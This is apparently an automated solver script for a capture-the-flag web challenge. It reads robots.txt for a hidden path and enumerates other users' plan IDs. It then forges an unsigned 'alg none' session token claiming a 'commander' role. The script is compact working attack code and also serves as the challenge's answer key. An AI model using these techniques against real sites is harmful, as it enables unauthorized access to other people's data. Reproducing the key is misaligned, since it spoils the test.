import { flagIn, type Solve, webAddress } from '../../solver.ts'

/** Reads robots.txt, then a plan with another number, then sends a session that says it needs no signature. */
export const solve: Solve = async context => {
  const desk = webAddress(context)
  const read = async (path: string, cookie = '') =>
    (await fetch(desk + path, { headers: { cookie } })).text()

  const hidden = /Disallow: (\S+)/.exec(await read('/robots.txt'))?.[1] ?? '/'
  const blue = flagIn(await read(hidden), context)

  const body = new URLSearchParams({ name: 'Ada' })
  const signIn = await fetch(`${desk}/sign-in`, { method: 'POST', body, redirect: 'manual' })
  const session = signIn.headers.getSetCookie()[0]?.split(';')[0] ?? ''
  const mine = Number(/\/plans\/(\d+)/.exec(await read('/', session))?.[1])
  const others = await Promise.all([1, 2, 3].map(n => read(`/plans/${mine - n}`, session)))
  const yellow = flagIn(others.join('\n'), context)

  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
  const forged = `session=${encode({ alg: 'none' })}.${encode({ name: 'Ada', role: 'commander' })}.`
  const red = flagIn(await read('/tower', forged), context)
  return [blue, yellow, red]
}
